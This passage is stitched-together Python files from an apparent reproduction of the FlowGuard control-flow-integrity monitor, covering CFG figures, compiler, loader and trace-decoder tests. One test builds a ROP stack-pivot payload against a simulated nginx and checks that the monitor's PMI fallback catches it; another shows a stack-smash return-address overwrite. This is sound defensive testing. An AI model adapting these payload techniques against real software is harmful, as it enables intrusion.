    indirect(1, 2); indirect(1, 3)          # noqa: E702
    direct(2, 4); indirect(4, 7)            # noqa: E702
    indirect(2, 5)
    direct(3, 6); indirect(6, 9)            # noqa: E702
    direct(6, 10); indirect(5, 10)          # noqa: E702

    print("Figure 3 (a): the original O-CFG")
    for edge in cfg.edges:
        arrow = "~~>" if edge.is_indirect else "-->"
        print(f"  {names[edge.src]} {arrow} {names[edge.dst]}")

    itc = build_itccfg(cfg)
    print("\nFigure 3 (b): the ITC-CFG")
    print(f"  IT-BBs: {sorted(names[n] for n in itc.nodes)}")
    for node in sorted(itc.nodes):
        for succ in sorted(itc.successors(node)):
            print(f"  {names[node]} ==> {names[succ]}")
    print(f"  note: BB-3 ==> BB-9 exists (indirect hop at BB-6); "
          f"BB-3 ==> BB-10 does not (direct-only path): "
          f"{itc.has_edge(bb[3], bb[9])} / {itc.has_edge(bb[3], bb[10])}")

    print("\nFigure 3 (c): training labels")
    labeled = CreditLabeledITC(itc=itc)
    # Simulate a training trace visiting everything except BB-2 -> BB-7.
    labeled.observe_trace([(bb[2], ()), (bb[5], (True,)), (bb[10], ())])
    labeled.observe_trace([(bb[3], ()), (bb[9], (False,))])
    for edge in itc.edges:
        credit = labeled.credit_of(edge.src, edge.dst)
        tag = "HIGH" if credit is CreditLevel.HIGH else "low "
        print(f"  [{tag}] {names[edge.src]} ==> {names[edge.dst]}")

    print(f"\nAIA over this toy graph: O-CFG {aia_ocfg(cfg):.2f}, "
          f"ITC node mean out-degree {aia_itc(itc):.2f} "
          f"(Figure 4 is the derogation case; see "
          f"tests/test_itccfg.py::TestFigure4AIADerogation)")


def real_nginx() -> None:
    from repro.analysis import build_ocfg
    from repro.binary import Loader
    from repro.workloads import build_libsim, build_nginx, build_vdso

    image = Loader({"libsim.so": build_libsim()},
                   vdso=build_vdso()).load(build_nginx())
    ocfg = build_ocfg(image)
    itc = build_itccfg(ocfg)
    stats = ocfg.stats()
    print("\nthe same pipeline on the real nginx analogue:")
    print(f"  O-CFG: {stats['blocks']} blocks "
          f"({stats['exec_blocks']} exec / {stats['lib_blocks']} lib), "
          f"{stats['edges']} edges")
    print(f"  ITC-CFG: {len(itc.nodes)} IT-BBs, {itc.edge_count} edges")
    print(f"  AIA: O-CFG {aia_ocfg(ocfg):.2f} -> ITC {aia_itc(itc):.2f}")


if __name__ == "__main__":
    figure3()
    real_nginx()
