"""§7.1.2 endpoint bypassing: the PMI fallback.

FlowGuard assumes attacks eventually trigger a sensitive endpoint.  An
endpoint-pruning attacker avoids syscalls entirely — here, a very long
NOP-gadget chain that computes without ever trapping.  The paper's
worst-case answer: "FlowGuard can rely on periodic performance
monitoring interrupts (PMIs) generated when the trace buffer is full as
endpoints" — the ``check_on_pmi`` policy.
"""

import pytest

from repro.attacks import run_recon
from repro.attacks.flushing import build_flushing_payload
from repro.attacks.rop import build_filler, frame_glue
from repro.monitor import FlowGuardPolicy
from repro.osmodel import Kernel, ProcessState, SIGKILL
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)

LIBS = {"libsim.so": build_libsim()}


def pivot_loop_request(recon):
    """A syscall-free infinite ROP loop.

    The payload plants a self-referencing frame inside the overflowed
    buffer and corrupts the saved FP to point at it; an epilogue gadget
    (``mov sp, fp; pop fp; ret``) then pivots onto that frame and
    re-enters itself forever.  The loop issues *no* syscall, so no
    default endpoint ever fires — but every iteration retires a return,
    so its TIP traffic steadily fills the 16 KiB ToPA.
    """
    import struct

    from repro.attacks.gadgets import find_gadgets

    gadgets = find_gadgets(recon.image)
    assert gadgets.epilogues, "no epilogue pivot gadgets found"
    epilogue = gadgets.epilogues[0]

    # In-buffer pivot frame at filler offset 32: [fp=self][&epilogue].
    pivot_addr = recon.body_addr + 32
    filler, _, _ = build_filler(recon.body_addr)
    filler = bytearray(filler)
    filler[32:40] = struct.pack("<Q", pivot_addr)
    filler[40:48] = struct.pack("<Q", epilogue)

    # Overwritten frame: keep line/cfd sane, set saved FP to the pivot
    # frame, and return straight into the epilogue gadget.
    glue = (
        struct.pack("<Q", recon.body_addr)  # line: readable string
        + struct.pack("<Q", 4)              # cfd
        + struct.pack("<Q", pivot_addr)     # saved FP -> pivot frame
    )
    payload = bytes(filler) + glue + struct.pack("<Q", epilogue)
    return nginx_request("/x", "POST", payload)


@pytest.fixture(scope="module")
def recon():
    return run_recon(build_nginx(), LIBS, vdso=build_vdso())


@pytest.fixture(scope="module")
def pipeline():
    return FlowGuardPipeline.offline(
        "nginx", build_nginx(), LIBS, vdso=build_vdso(),
        corpus=[nginx_request("/index.html"),
                nginx_request("/p", "POST", b"ok")],
        mode="socket",
    )


def run_attack(pipeline, request, policy):
    kernel = Kernel()
    kernel.fs.create("/index.html", b"x")
    monitor, proc = pipeline.deploy(kernel, policy=policy)
    proc.push_connection(request)
    kernel.run(proc, max_steps=5_000_000)
    return kernel, proc, monitor


class TestEndpointPruning:
    def test_syscall_free_chain_evades_default_endpoints(
        self, recon, pipeline
    ):
        """Without the PMI fallback the chain runs to its crash
        unchecked — the §7.1.2 vulnerability, reproduced."""
        request = pivot_loop_request(recon)
        kernel, proc, monitor = run_attack(
            pipeline, request, FlowGuardPolicy(check_on_pmi=False)
        )
        assert monitor.detections == []
        # The loop spins unchecked until the step budget runs out.
        assert proc.state is ProcessState.RUNNABLE

    def test_pmi_endpoint_catches_it(self, recon, pipeline):
        """With buffer-full PMIs as endpoints, the chain's own trace
        volume triggers the check that kills it."""
        request = pivot_loop_request(recon)
        kernel, proc, monitor = run_attack(
            pipeline, request, FlowGuardPolicy(check_on_pmi=True)
        )
        assert monitor.detections, "PMI endpoint must fire mid-chain"
        assert proc.state is ProcessState.KILLED
        assert proc.killed_by == SIGKILL
        stats = monitor.stats_for(proc)
        assert stats.pmi_count >= 1

    def test_pmi_checking_benign_false_positive_free(self, pipeline):
        """PMI checks on benign traffic must stay clean."""
        kernel = Kernel()
        kernel.fs.create("/index.html", b"<html>x</html>" * 30)
        monitor, proc = pipeline.deploy(
            kernel, policy=FlowGuardPolicy(check_on_pmi=True)
        )
        for _ in range(25):  # enough traffic to wrap the ToPA
            proc.push_connection(nginx_request("/index.html"))
        kernel.run(proc)
        assert proc.state is ProcessState.EXITED
        assert monitor.detections == []
        assert monitor.stats_for(proc).pmi_count >= 1
