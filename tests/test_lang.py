"""Tests for the mini-language compiler."""

import pytest

from repro.binary import Loader
from repro.cpu import Executor, Machine, PROT_READ, PROT_WRITE
from repro.cpu.machine import to_signed
from repro.lang import (
    AddrOf,
    Assign,
    BinOp,
    Break,
    Call,
    CallPtr,
    CompileError,
    Const,
    Continue,
    Func,
    FuncRef,
    Global,
    If,
    Let,
    LocalArray,
    Load,
    Program,
    Rel,
    Return,
    Store,
    Switch,
    SyscallExpr,
    Var,
    While,
)
from repro.isa.registers import R0, SP

STACK_TOP = 0x7FFF0000


def run_program(program, max_steps=1_000_000, syscall_handler=None):
    image = Loader().load(program.build())
    image.memory.map_region(
        STACK_TOP - 0x10000, 0x10000, PROT_READ | PROT_WRITE
    )
    machine = Machine(image.memory)
    machine.ip = image.entry_address
    machine.set_reg(SP, STACK_TOP - 64)
    cpu = Executor(machine, syscall_handler=syscall_handler)
    cpu.run(max_steps)
    return cpu


def eval_main(body, extra_funcs=(), max_steps=1_000_000):
    """Compile main() with ``body``; run; return signed r0."""
    prog = Program("test")
    for func in extra_funcs:
        prog.add_func(func)
    prog.add_func(Func("main", [], body))
    prog.set_entry("main")
    cpu = run_program(prog, max_steps)
    assert cpu.machine.halted or True
    return to_signed(cpu.machine.reg(R0))


class TestExpressions:
    def test_const_return(self):
        assert eval_main([Return(Const(42))]) == 42

    def test_arith(self):
        expr = BinOp("+", BinOp("*", Const(6), Const(7)), Const(8))
        assert eval_main([Return(expr)]) == 50

    def test_nested_arith_uses_stack_temps(self):
        # ((1+2)*(3+4)) - (10/2) = 21 - 5 = 16
        expr = BinOp(
            "-",
            BinOp("*", BinOp("+", Const(1), Const(2)),
                  BinOp("+", Const(3), Const(4))),
            BinOp("/", Const(10), Const(2)),
        )
        assert eval_main([Return(expr)]) == 16

    def test_mod_and_shifts(self):
        assert eval_main([Return(BinOp("%", Const(17), Const(5)))]) == 2
        assert eval_main([Return(BinOp("<<", Const(3), Const(4)))]) == 48
        assert eval_main([Return(BinOp(">>", Const(48), Const(4)))]) == 3

    def test_bitwise(self):
        assert eval_main([Return(BinOp("&", Const(0b1100), Const(0b1010)))]) == 0b1000
        assert eval_main([Return(BinOp("|", Const(0b1100), Const(0b1010)))]) == 0b1110
        assert eval_main([Return(BinOp("^", Const(0b1100), Const(0b1010)))]) == 0b0110

    def test_rel_as_value(self):
        assert eval_main([Return(Rel("<", Const(1), Const(2)))]) == 1
        assert eval_main([Return(Rel(">", Const(1), Const(2)))]) == 0

    def test_unknown_binop_rejected(self):
        with pytest.raises(CompileError):
            eval_main([Return(BinOp("**", Const(2), Const(3)))])


class TestLocals:
    def test_let_assign(self):
        assert (
            eval_main(
                [
                    Let("x", Const(10)),
                    Assign("x", BinOp("+", Var("x"), Const(5))),
                    Return(Var("x")),
                ]
            )
            == 15
        )

    def test_undeclared_local_rejected(self):
        with pytest.raises(CompileError):
            eval_main([Assign("ghost", Const(1))])

    def test_array_addr_and_byte_store(self):
        body = [
            LocalArray("buf", 16),
            Store(AddrOf("buf"), Const(65), offset=0, byte=True),
            Store(AddrOf("buf"), Const(66), offset=1, byte=True),
            Return(Load(AddrOf("buf"), offset=1, byte=True)),
        ]
        assert eval_main(body) == 66

    def test_array_used_as_scalar_rejected(self):
        with pytest.raises(CompileError):
            eval_main([LocalArray("buf", 8), Return(Var("buf"))])

    def test_word_store_load(self):
        body = [
            LocalArray("buf", 32),
            Store(AddrOf("buf"), Const(0xCAFE), offset=8),
            Return(Load(AddrOf("buf"), offset=8)),
        ]
        assert eval_main(body) == 0xCAFE


class TestControl:
    def test_if_else(self):
        def branchy(n):
            return [
                Let("x", Const(n)),
                If(
                    Rel(">", Var("x"), Const(10)),
                    [Return(Const(1))],
                    [Return(Const(2))],
                ),
            ]

        assert eval_main(branchy(11)) == 1
        assert eval_main(branchy(9)) == 2

    def test_while_sum(self):
        body = [
            Let("i", Const(0)),
            Let("acc", Const(0)),
            While(
                Rel("<", Var("i"), Const(10)),
                [
                    Assign("acc", BinOp("+", Var("acc"), Var("i"))),
                    Assign("i", BinOp("+", Var("i"), Const(1))),
                ],
            ),
            Return(Var("acc")),
        ]
        assert eval_main(body) == 45

    def test_break_continue(self):
        body = [
            Let("i", Const(0)),
            Let("acc", Const(0)),
            While(
                Const(1),
                [
                    Assign("i", BinOp("+", Var("i"), Const(1))),
                    If(Rel(">", Var("i"), Const(10)), [Break()]),
                    If(Rel("==", BinOp("%", Var("i"), Const(2)), Const(0)),
                       [Continue()]),
                    Assign("acc", BinOp("+", Var("acc"), Var("i"))),
                ],
            ),
            Return(Var("acc")),  # 1+3+5+7+9
        ]
        assert eval_main(body) == 25

    def test_break_outside_loop_rejected(self):
        with pytest.raises(CompileError):
            eval_main([Break()])

    def test_switch_dense(self):
        def pick(n):
            return [
                Let("x", Const(n)),
                Switch(
                    Var("x"),
                    {
                        1: [Return(Const(100))],
                        2: [Return(Const(200))],
                        4: [Return(Const(400))],
                    },
                    default=[Return(Const(-1))],
                ),
            ]

        assert eval_main(pick(1)) == 100
        assert eval_main(pick(2)) == 200
        assert eval_main(pick(3)) == -1  # hole -> default
        assert eval_main(pick(4)) == 400
        assert eval_main(pick(99)) == -1  # out of range
        assert eval_main(pick(-5)) == -1  # below range

    def test_switch_too_sparse_rejected(self):
        with pytest.raises(CompileError):
            eval_main(
                [Switch(Const(0), {0: [Return(Const(0))],
                                   1000: [Return(Const(1))]})]
            )

    def test_fall_off_end_returns_zero(self):
        assert eval_main([Let("x", Const(5))]) == 0


class TestCalls:
    def test_direct_call(self):
        double = Func("double", ["n"], [Return(BinOp("*", Var("n"), Const(2)))])
        assert eval_main([Return(Call("double", [Const(21)]))], [double]) == 42

    def test_recursion(self):
        fact = Func(
            "fact",
            ["n"],
            [
                If(
                    Rel("<=", Var("n"), Const(1)),
                    [Return(Const(1))],
                    [
                        Return(
                            BinOp(
                                "*",
                                Var("n"),
                                Call("fact", [BinOp("-", Var("n"), Const(1))]),
                            )
                        )
                    ],
                )
            ],
        )
        assert eval_main([Return(Call("fact", [Const(6)]))], [fact]) == 720

    def test_five_args(self):
        addup = Func(
            "addup",
            ["a", "b", "c", "d", "e"],
            [
                Return(
                    BinOp(
                        "+",
                        BinOp("+", BinOp("+", Var("a"), Var("b")),
                              BinOp("+", Var("c"), Var("d"))),
                        Var("e"),
                    )
                )
            ],
        )
        args = [Const(i) for i in (1, 2, 3, 4, 5)]
        assert eval_main([Return(Call("addup", args))], [addup]) == 15

    def test_too_many_args_rejected(self):
        with pytest.raises(CompileError):
            eval_main([Return(Call("f", [Const(0)] * 6))])

    def test_indirect_call_through_pointer(self):
        inc = Func("inc", ["n"], [Return(BinOp("+", Var("n"), Const(1)))])
        dec = Func("dec", ["n"], [Return(BinOp("-", Var("n"), Const(1)))])
        body = [
            Let("fp", FuncRef("dec")),
            Return(CallPtr(Var("fp"), [Const(10)])),
        ]
        assert eval_main(body, [inc, dec]) == 9

    def test_call_args_evaluated_with_nested_calls(self):
        one = Func("one", [], [Return(Const(1))])
        addf = Func("addf", ["a", "b"], [Return(BinOp("+", Var("a"), Var("b")))])
        body = [
            Return(Call("addf", [Call("one", []), BinOp("+", Call("one", []), Const(5))]))
        ]
        assert eval_main(body, [one, addf]) == 7

    def test_callptr_through_table(self):
        f1 = Func("h1", [], [Return(Const(111))])
        f2 = Func("h2", [], [Return(Const(222))])
        prog = Program("test")
        prog.add_func(f1).add_func(f2)
        prog.add_pointer_table("handlers", ["h1", "h2"])
        prog.add_func(
            Func(
                "main",
                [],
                [
                    Let("t", Global("handlers")),
                    Return(CallPtr(Load(Var("t"), offset=8), []))
                ],
            )
        )
        prog.set_entry("main")
        cpu = run_program(prog)
        assert to_signed(cpu.machine.reg(R0)) == 222


class TestSyscallsAndGlobals:
    def test_syscall_expr(self):
        seen = []

        def handler(machine):
            if machine.reg(0) == 33:  # ignore the _start exit syscall
                seen.append((machine.reg(0), machine.reg(1)))
                machine.set_reg(0, 7)

        prog = Program("test")
        prog.add_func(
            Func("main", [], [Return(SyscallExpr(33, [Const(5)]))])
        )
        prog.set_entry("main")
        cpu = run_program(prog, syscall_handler=handler)
        assert seen == [(33, 5)]
        assert cpu.machine.reg(R0) == 7

    def test_global_string(self):
        prog = Program("test")
        prog.add_string("msg", "Hi")
        prog.add_func(
            Func("main", [], [Return(Load(Global("msg"), offset=0, byte=True))])
        )
        prog.set_entry("main")
        cpu = run_program(prog)
        assert cpu.machine.reg(R0) == ord("H")


class TestStackSmashLayout:
    def test_overflow_reaches_return_address(self):
        """Writing past a local array must clobber the return address.

        Frame layout for victim(tgt) with buf[8]: tgt at fp-8, buf at
        [fp-16, fp-8); so buf+16 is the saved FP and buf+24 the return
        address — the classic C stack-smash geometry.
        """
        from repro.isa.assembler import A
        from repro.lang import Asm

        prog = Program("smash")
        prog.add_func(
            Func(
                "attacker_target",
                [],
                [Asm([A.mov(R0, 0x600D), A.halt()])],
            )
        )
        prog.add_func(
            Func(
                "victim",
                ["tgt"],
                [
                    LocalArray("buf", 8),
                    Store(AddrOf("buf"), Var("tgt"), offset=24),
                    Return(Const(1)),
                ],
            )
        )
        prog.add_func(
            Func(
                "main",
                [],
                [Return(Call("victim", [FuncRef("attacker_target")]))],
            )
        )
        prog.set_entry("main")
        cpu = run_program(prog)
        assert to_signed(cpu.machine.reg(R0)) == 0x600D
        assert cpu.machine.halted
