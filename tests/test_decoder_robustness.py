"""Robustness of the decoders against hostile or corrupted input.

The fast decoder processes attacker-influenced bytes (the trace of a
hijacked process) and kernel-buffer tails cut at arbitrary points; it
must terminate with either a result or a PacketError — never hang,
never crash with an unrelated exception.
"""

import pytest
from hypothesis import given, settings, strategies as st

from repro.ipt import (
    IPTConfig,
    IPTEncoder,
    PacketError,
    ToPA,
    ToPARegion,
    fast_decode,
    fast_decode_parallel,
)
from repro.ipt.msr import RTIT_CTL
from repro.cpu.events import BranchEvent, CoFIKind


def _sample_trace() -> bytes:
    config = IPTConfig()
    config.write_ctl(RTIT_CTL.TRACE_EN | RTIT_CTL.BRANCH_EN | RTIT_CTL.USER)
    encoder = IPTEncoder(config, output=ToPA([ToPARegion(1 << 14)]))
    for i in range(60):
        encoder.on_branch(
            BranchEvent(CoFIKind.COND_BRANCH, 0x400000 + 8 * i,
                        0x400010 + 8 * i, taken=(i % 3 != 0))
        )
        if i % 4 == 0:
            encoder.on_branch(
                BranchEvent(CoFIKind.RET, 0x400100 + i, 0x400200 + i)
            )
    encoder.flush()
    return encoder.output.snapshot()


class TestFastDecodeRobustness:
    @given(st.binary(max_size=200))
    @settings(max_examples=100, deadline=None)
    def test_random_bytes_never_hang_or_crash(self, data):
        try:
            result = fast_decode(data)
        except PacketError:
            return
        assert result.packets is not None

    @given(st.binary(max_size=200))
    @settings(max_examples=60, deadline=None)
    def test_sync_mode_tolerates_garbage_prefix(self, garbage):
        data = garbage + _sample_trace()
        # Syncing to the first PSB must recover the real packets even
        # when the prefix is arbitrary junk.
        result = fast_decode(data, sync=True)
        reference = fast_decode(_sample_trace())
        got = [(p.kind, p.ip, p.bits) for p in result.packets]
        want = [(p.kind, p.ip, p.bits) for p in reference.packets]
        # The garbage may itself contain a fake PSB pattern; in that
        # rare case decoding starts earlier but must still terminate.
        if result.synced_offset == len(garbage):
            assert got == want

    @given(st.integers(0, 400))
    @settings(max_examples=60, deadline=None)
    def test_arbitrary_truncation_tolerated(self, cut):
        data = _sample_trace()
        cut = min(cut, len(data))
        result = fast_decode(data[:cut])
        # Whole-packet prefix decodes; mid-packet cut flags truncation.
        assert result.truncated or result.packets is not None

    @given(st.binary(max_size=300))
    @settings(max_examples=40, deadline=None)
    def test_parallel_agrees_with_serial_on_valid_streams(self, junk):
        data = _sample_trace()
        serial = fast_decode(data)
        parallel = fast_decode_parallel(data)
        assert [(p.kind, p.ip, p.bits) for p in serial.packets] == [
            (p.kind, p.ip, p.bits) for p in parallel.packets
        ]


class TestFullDecodeRobustness:
    def test_packets_for_wrong_binary_reported(self):
        """Full decode of a trace against mismatched memory must raise
        TraceMismatch, not produce silently wrong flow."""
        from repro.cpu.memory import Memory, PROT_EXEC, PROT_READ
        from repro.ipt import FullDecoder, TraceMismatch

        data = _sample_trace()
        packets = fast_decode(data).packets
        memory = Memory()
        memory.map_region(0x400000, 0x2000, PROT_READ | PROT_EXEC)
        # All zeroes decodes as NOP sled: the decoder walks NOPs and
        # then hits a packet it cannot reconcile or runs off the map.
        with pytest.raises(TraceMismatch):
            decoder = FullDecoder(memory, max_insns=100_000)
            result = decoder.decode(packets)
            # A NOP sled consumes no packets; walking off the mapped
            # region must raise before the instruction budget is spent.
            if result.insn_count >= 100_000:  # pragma: no cover
                raise TraceMismatch("budget exhausted on a NOP sled")
