"""Tests for module building, loading, PLT/GOT linking, interposition."""

import pytest

from repro.binary import (
    LinkError,
    LinkResolutionError,
    Loader,
    ModuleBuilder,
)
from repro.cpu import Executor, Machine, PROT_READ, PROT_WRITE
from repro.isa import A, Cond, Label
from repro.isa.registers import R0, R1, R2, SP

STACK_TOP = 0x7FFFFFFFF000


def run_image(image, max_steps=100_000, syscall_handler=None):
    """Map a stack into the image and run from the entry point."""
    image.memory.map_region(
        STACK_TOP - 0x10000, 0x10000, PROT_READ | PROT_WRITE
    )
    machine = Machine(image.memory)
    machine.ip = image.entry_address
    machine.set_reg(SP, STACK_TOP - 8)
    cpu = Executor(machine, syscall_handler=syscall_handler)
    cpu.run(max_steps)
    return cpu


def make_lib():
    lib = ModuleBuilder("libsim.so")
    lib.add_function("triple", [A.movr(R0, R1), A.add(R0, R1), A.add(R0, R1), A.ret()])
    lib.add_function("identity", [A.movr(R0, R1), A.ret()])
    return lib.build()


class TestModuleBuilder:
    def test_duplicate_function_rejected(self):
        b = ModuleBuilder("m")
        b.add_function("f", [A.ret()])
        with pytest.raises(LinkError):
            b.add_function("f", [A.ret()])

    def test_duplicate_data_rejected(self):
        b = ModuleBuilder("m")
        b.add_data("d", b"x")
        with pytest.raises(LinkError):
            b.add_data("d", b"y")

    def test_entry_must_be_function(self):
        b = ModuleBuilder("m")
        b.set_entry("missing")
        with pytest.raises(LinkError):
            b.build()

    def test_function_ranges_cover_code(self):
        b = ModuleBuilder("m")
        b.add_function("f", [A.mov(R0, 1), A.ret()])
        b.add_function("g", [A.ret()])
        m = b.build()
        (fs, fe) = m.function_ranges["f"]
        (gs, ge) = m.function_ranges["g"]
        assert fs == 0 and fe == gs and ge == len(m.code)
        assert m.function_at(fs) == "f"
        assert m.function_at(gs) == "g"
        assert m.function_at(ge + 100) is None

    def test_plt_stubs_created_per_import(self):
        b = ModuleBuilder("m")
        b.import_symbol("ext1")
        b.import_symbol("ext2")
        b.add_function("main", [A.ret()])
        m = b.build()
        assert set(m.plt) == {"ext1", "ext2"}
        assert set(m.got) == {"ext1", "ext2"}
        # PLT stubs live past all functions in the code section.
        assert all(off >= m.function_ranges["main"][1] for off in m.plt.values())

    def test_exports_only_exported(self):
        b = ModuleBuilder("m")
        b.add_function("pub", [A.ret()])
        b.add_function("priv", [A.ret()], export=False)
        m = b.build()
        assert "pub" in m.symbols
        assert "priv" not in m.symbols
        assert "priv" in m.local_symbols


class TestLoader:
    def test_entry_and_layout(self):
        b = ModuleBuilder("app")
        b.add_function("main", [A.mov(R0, 5), A.halt()])
        b.set_entry("main")
        image = Loader().load(b.build())
        cpu = run_image(image)
        assert cpu.machine.reg(R0) == 5
        exe = image.executable
        assert exe.contains(image.entry_address)
        assert image.module_of(image.entry_address) is exe

    def test_missing_needed_raises(self):
        b = ModuleBuilder("app")
        b.add_function("main", [A.halt()])
        b.set_entry("main")
        b.add_needed("libmissing.so")
        with pytest.raises(LinkResolutionError):
            Loader().load(b.build())

    def test_undefined_import_raises(self):
        b = ModuleBuilder("app")
        b.import_symbol("nosuchfn")
        b.add_function("main", [A.call("nosuchfn"), A.halt()])
        b.set_entry("main")
        with pytest.raises(LinkResolutionError):
            Loader().load(b.build())

    def test_cross_module_call_via_plt(self):
        app = ModuleBuilder("app")
        app.import_symbol("triple")
        app.add_needed("libsim.so")
        app.add_function(
            "main", [A.mov(R1, 7), A.call("triple"), A.halt()]
        )
        app.set_entry("main")
        image = Loader({"libsim.so": make_lib()}).load(app.build())
        cpu = run_image(image)
        assert cpu.machine.reg(R0) == 21

    def test_plt_call_is_indirect_jump(self):
        """Module transitions must flow through PLT indirect jumps."""
        from repro.cpu import CoFIKind

        app = ModuleBuilder("app")
        app.import_symbol("identity")
        app.add_needed("libsim.so")
        app.add_function("main", [A.mov(R1, 1), A.call("identity"), A.halt()])
        app.set_entry("main")
        image = Loader({"libsim.so": make_lib()}).load(app.build())
        image.memory.map_region(
            STACK_TOP - 0x10000, 0x10000, PROT_READ | PROT_WRITE
        )
        machine = Machine(image.memory)
        machine.ip = image.entry_address
        machine.set_reg(SP, STACK_TOP - 8)
        cpu = Executor(machine)
        events = []
        cpu.add_listener(events.append)
        cpu.run(10_000)
        kinds = [e.kind for e in events]
        assert kinds == [
            CoFIKind.DIRECT_CALL,  # into the PLT stub
            CoFIKind.INDIRECT_JMP,  # PLT -> library
            CoFIKind.RET,  # back to caller
        ]
        lib = image.by_name("libsim.so")
        jmp = events[1]
        assert image.executable.contains(jmp.src)
        assert lib.contains(jmp.dst)
        assert jmp.dst == lib.addr_of("identity")

    def test_transitive_needed(self):
        liba = ModuleBuilder("liba.so")
        liba.import_symbol("leaf")
        liba.add_needed("libb.so")
        liba.add_function("mid", [A.call("leaf"), A.ret()])
        libb = ModuleBuilder("libb.so")
        libb.add_function("leaf", [A.mov(R0, 11), A.ret()])
        app = ModuleBuilder("app")
        app.import_symbol("mid")
        app.add_needed("liba.so")
        app.add_function("main", [A.call("mid"), A.halt()])
        app.set_entry("main")
        image = Loader(
            {"liba.so": liba.build(), "libb.so": libb.build()}
        ).load(app.build())
        cpu = run_image(image)
        assert cpu.machine.reg(R0) == 11
        assert len(image.modules) == 3

    def test_symbol_interposition_order(self):
        """First provider in DT_NEEDED breadth-first order wins."""
        lib1 = ModuleBuilder("lib1.so")
        lib1.add_function("shared", [A.mov(R0, 1), A.ret()])
        lib2 = ModuleBuilder("lib2.so")
        lib2.add_function("shared", [A.mov(R0, 2), A.ret()])
        app = ModuleBuilder("app")
        app.import_symbol("shared")
        app.add_needed("lib1.so")
        app.add_needed("lib2.so")
        app.add_function("main", [A.call("shared"), A.halt()])
        app.set_entry("main")
        image = Loader(
            {"lib1.so": lib1.build(), "lib2.so": lib2.build()}
        ).load(app.build())
        cpu = run_image(image)
        assert cpu.machine.reg(R0) == 1

    def test_vdso_takes_precedence(self):
        vdso = ModuleBuilder("vdso")
        vdso.add_function("gettimeofday", [A.mov(R0, 777), A.ret()])
        lib = ModuleBuilder("libsim.so")
        lib.add_function("gettimeofday", [A.mov(R0, 1), A.ret()])
        app = ModuleBuilder("app")
        app.import_symbol("gettimeofday")
        app.add_needed("libsim.so")
        app.add_function("main", [A.call("gettimeofday"), A.halt()])
        app.set_entry("main")
        image = Loader(
            {"libsim.so": lib.build()}, vdso=vdso.build()
        ).load(app.build())
        cpu = run_image(image)
        assert cpu.machine.reg(R0) == 777
        assert image.vdso is not None
        assert image.module_of(image.vdso.base) is image.vdso

    def test_pointer_table_relocation(self):
        b = ModuleBuilder("app")
        b.add_function("f1", [A.mov(R0, 100), A.ret()])
        b.add_function("f2", [A.mov(R0, 200), A.ret()])
        b.add_pointer_table("handlers", ["f1", "f2"])
        b.add_function(
            "main",
            [
                A.lea(R2, "handlers"),
                A.load(R2, R2, 8),  # handlers[1] == f2
                A.callr(R2),
                A.halt(),
            ],
        )
        b.set_entry("main")
        image = Loader().load(b.build())
        cpu = run_image(image)
        assert cpu.machine.reg(R0) == 200

    def test_data_objects_loaded(self):
        b = ModuleBuilder("app")
        b.add_data("greeting", b"hello", export=True)
        b.add_function(
            "main", [A.lea(R1, "greeting"), A.loadb(R0, R1, 1), A.halt()]
        )
        b.set_entry("main")
        image = Loader().load(b.build())
        cpu = run_image(image)
        assert cpu.machine.reg(R0) == ord("e")
        lm = image.executable
        assert image.memory.read(lm.addr_of("greeting"), 5) == b"hello"

    def test_code_pages_not_writable(self):
        from repro.cpu import MemoryError_

        b = ModuleBuilder("app")
        b.add_function("main", [A.halt()])
        b.set_entry("main")
        image = Loader().load(b.build())
        with pytest.raises(MemoryError_):
            image.memory.write(image.executable.base, b"\x00")

    def test_by_name_missing(self):
        b = ModuleBuilder("app")
        b.add_function("main", [A.halt()])
        b.set_entry("main")
        image = Loader().load(b.build())
        with pytest.raises(KeyError):
            image.by_name("nope")
