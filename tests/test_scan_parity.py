"""Scanner tri-parity, byte-cursor parity, and the perf-PR plumbing.

The vectorised scan rewrite keeps three scanners alive: the per-byte
dispatch walk (``columnar_scan_reference``, the oracle), the
regex/translate vectorised pure-Python scan, and the optional ctypes C
kernel.  This suite property-tests that all three are column-identical
— every column, every charged cycle, every ``PacketError`` message —
on structured streams, uniform-random buffers, every truncation cut,
and random corruption flips.  It also pins the columnar-native
degraded lane (``_ByteCursor`` vs the object engine's
``_PacketCursor``, including ``TraceMismatch`` messages), the
scan-kernel / slow-lane policy knobs, the bursty open-loop schedule,
``repro bench --engine``, and the append-only performance trajectory.
"""

import dataclasses
import json
import random

import pytest

from repro.ipt import columnar, scan_kernel
from repro.ipt.columnar import (
    ColumnarSlowSource,
    columnar_scan,
    columnar_scan_reference,
    scan_kernel_active,
    scan_kernel_mode,
    set_scan_kernel,
)
from repro.ipt.fast_decoder import fast_decode
from repro.ipt.full_decoder import TraceMismatch, _PacketCursor
from repro.ipt.packets import PacketError
from repro.monitor import FlowGuardPolicy
from repro.monitor.policy import SCAN_KERNEL_MODES, SLOW_LANES
from tests.test_columnar import build_stream

KERNEL_AVAILABLE = columnar._KERNEL_ABI_OK and scan_kernel.load() is not None

needs_kernel = pytest.mark.skipif(
    not KERNEL_AVAILABLE, reason="C scan kernel not buildable here"
)


@pytest.fixture
def kernel_mode_guard():
    """Restore the process-wide scan-kernel mode after the test."""
    previous = scan_kernel_mode()
    yield
    set_scan_kernel(previous)


# -- scanner tri-parity -------------------------------------------------------


def segment_columns(seg):
    """Every column and scalar a ColumnarSegment carries, normalised
    (the kernel path stores ``array`` columns, the Python paths lists —
    parity is on values, not container types)."""
    return (
        seg.pkt_count,
        seg.cycles,
        seg.truncated,
        seg.synced_offset,
        tuple(seg.rec_ips),
        tuple(seg.rec_offsets),
        tuple(seg.rec_bit_start),
        tuple(seg.rec_bit_end),
        bytes(seg.tnt_bits),
        seg.total_bits,
        seg.pend_start,
        seg.trailing_far,
        seg.far_mask,
        tuple(seg.fup_ips),
    )


def scan_outcomes(data, sync=False):
    """(columns-or-None, error-string-or-None) from all live scanners."""
    outcomes = {}
    scanners = {
        "reference": lambda: columnar_scan_reference(data, sync=sync),
        "python": lambda: columnar._scan_python(data, sync, True),
    }
    if KERNEL_AVAILABLE:
        lib = scan_kernel.load()
        scanners["kernel"] = lambda: columnar._scan_kernel_segment(
            lib, data, sync, True
        )
    for name, scan in scanners.items():
        try:
            outcomes[name] = (segment_columns(scan()), None)
        except PacketError as exc:
            outcomes[name] = (None, str(exc))
    return outcomes


def assert_tri_parity(data, sync=False):
    outcomes = scan_outcomes(data, sync=sync)
    baseline = outcomes.pop("reference")
    for name, outcome in outcomes.items():
        assert outcome == baseline, (
